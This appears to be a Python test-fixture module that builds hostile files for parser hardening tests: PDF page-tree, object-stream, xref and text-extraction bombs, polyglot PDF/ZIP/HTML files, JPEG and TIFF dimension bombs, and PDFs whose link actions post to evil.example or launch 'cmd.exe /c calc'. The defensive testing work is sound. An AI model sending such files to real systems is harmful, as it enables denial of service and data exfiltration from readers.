"""Hostile files built byte by byte: encrypted PDFs, page tree, object stream and xref
bombs, polyglots, PDFs with outward actions, image dimension bombs. Each is small; what
makes it hostile is what it claims."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from PIL import Image
from pypdf import PdfWriter

from tests.support import sample_pdf

CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"


def classic_pdf(objects: dict[int, bytes]) -> bytes:
    """A PDF with a classic xref table; object 1 is the catalog."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += (
            b"%010d 00000 n \n" % offsets[number]
            if number in offsets
            else b"0" * 10 + b" 65535 f \n"
        )
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref)
    return bytes(out)


def xref_stream_pdf(
    objects: dict[int, bytes], *, in_streams: dict[int, int] | None = None, trailer: bytes = b""
) -> bytes:
    """A PDF whose cross-reference is a stream; ``in_streams`` maps an object number to the
    object stream holding it (as its first object)."""
    in_streams = in_streams or {}
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    xref_number = max([*objects, *in_streams]) + 1
    offsets[xref_number] = len(out)
    rows = bytearray()
    for number in range(xref_number + 1):
        if number in offsets:
            rows += struct.pack(">BIH", 1, offsets[number], 0)
        elif number in in_streams:
            rows += struct.pack(">BIH", 2, in_streams[number], 0)
        else:
            rows += struct.pack(">BIH", 0, 0, 0)
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /Root 1 0 R /W [1 4 2] %s /Length %d >>\n" % (
        xref_number,
        xref_number + 1,
        trailer,
        len(rows),
    )
    out += b"stream\n" + rows + b"\nendstream\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


def _stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (dictionary, len(data), data)


def _deflated(unit: bytes, megabytes: int, prefix: bytes = b"") -> bytes:
    """``prefix`` then ``unit`` repeated to ``megabytes`` MiB, deflated (about 1/1000)."""
    compressor = zlib.compressobj(9)
    chunk = unit * (1024 * 1024 // len(unit))
    body = b"".join(compressor.compress(chunk) for _ in range(megabytes))
    return compressor.compress(prefix) + body + compressor.flush()


def page_tree_bomb(levels: int = 12, fanout: int = 10) -> bytes:
    """Each level of the page tree names the next level ``fanout`` times: 10**12 pages."""
    objects = {1: CATALOG}
    for level in range(levels):
        number = 2 + level
        kids = b" ".join(b"%d 0 R" % (number + 1) for _ in range(fanout))
        count = fanout ** (levels - level)
        objects[number] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count)
    objects[2 + levels] = b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 9 9] >>" % (1 + levels)
    return classic_pdf(objects)


def object_stream_bomb(megabytes: int = 200) -> bytes:
    """The catalog sits in an object stream claiming 10**8 objects and inflating to 200 MB."""
    data = _deflated(b" ", megabytes, prefix=b"1 0 " + CATALOG)
    stream = _stream(b"/Type /ObjStm /N 100000000 /First 4 /Filter /FlateDecode", data)
    return xref_stream_pdf({2: PAGES, 3: PAGE, 4: stream}, in_streams={1: 4})


def xref_bomb() -> bytes:
    """A cross-reference stream claiming a billion entries in a loop of /Prev sections."""
    body = xref_stream_pdf({1: CATALOG, 2: PAGES, 3: PAGE})
    start = int(body.rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0])
    return body.replace(b"/Type /XRef /Size 5", b"/Type /XRef /Size 1000000000 /Prev %d" % start, 1)


def text_extraction_bomb(megabytes: int = 30) -> bytes:
    """A one-page PDF of 100 KiB whose content stream inflates to megabytes of text
    operators: reading its text would take minutes and gigabytes."""
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    content = _stream(
        b"/Filter /FlateDecode", _deflated(b"BT /F1 9 Tf 9 9 Td (ab) Tj ET\n", megabytes)
    )
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>"
    )
    return classic_pdf({1: CATALOG, 2: PAGES, 3: page, 4: content, 5: font})


def pdf_with_action(action: bytes) -> bytes:
    """A page with a link annotation whose action is ``action``."""
    annotation = b"<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A %s >>" % action
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>"
    return classic_pdf({1: CATALOG, 2: PAGES, 3: page, 4: annotation})


URI_ACTION = b"<< /S /URI /URI (https://evil.example/collect) >>"
SUBMIT_FORM_ACTION = b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/form) >> >>"
LAUNCH_ACTION = b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"


def encrypted_pdf(user_password: str) -> bytes:
    """RC4 encryption (pypdf writes it without extra packages); an empty user password
    opens without asking, with the owner's permissions."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(user_password=user_password, owner_password="owner", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def zip_of(name: str, data: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(name, data)
    return buffer.getvalue()


def pdf_then_zip() -> bytes:
    """A valid PDF with a ZIP archive appended: readers open either, depending on the name."""
    return sample_pdf("polyglot") + zip_of("payload.html", b"<script>alert(1)</script>")


def zip_holding_a_pdf_header() -> bytes:
    """A ZIP whose first entry is a PDF stored uncompressed: %PDF- in the first bytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_STORED) as archive:
        archive.writestr("a.pdf", sample_pdf("inside"))
    return buffer.getvalue()


def html_then_pdf() -> bytes:
    """An HTML page whose comment hides a PDF: a sniffing browser renders the page."""
    return b"<html><script>alert(document.cookie)</script><!--\n" + sample_pdf("html") + b"-->"


def jpeg_dimension_bomb() -> bytes:
    """A tiny JPEG whose frame header claims 65535 x 65535 pixels."""
    buffer = io.BytesIO()
    Image.new("L", (8, 8), 128).save(buffer, format="JPEG")
    data = bytearray(buffer.getvalue())
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", 65535, 65535)  # height, width
    return bytes(data)


def tiff_dimension_bomb(side: int = 100_000) -> bytes:
    """A TIFF whose single strip of 16 bytes claims ``side`` x ``side`` grey pixels."""
    entries = [
        (256, 4, side),  # ImageWidth, LONG
        (257, 4, side),  # ImageLength
        (258, 3, 8),  # BitsPerSample
        (259, 3, 1),  # no compression
        (262, 3, 1),  # black is zero
        (273, 4, 8 + 2 + 9 * 12 + 4),  # StripOffsets: right after the IFD
        (277, 3, 1),  # SamplesPerPixel
        (278, 4, side),  # RowsPerStrip
        (279, 4, 16),  # StripByteCounts
    ]
    ifd = struct.pack("<H", len(entries))
    for tag, kind, value in entries:
        ifd += (
            struct.pack("<HHII", tag, kind, 1, value)
            if kind == 4
            else struct.pack("<HHIHH", tag, kind, 1, value, 0)
        )
    return b"II*\x00" + struct.pack("<I", 8) + ifd + struct.pack("<I", 0) + b"\x80" * 16
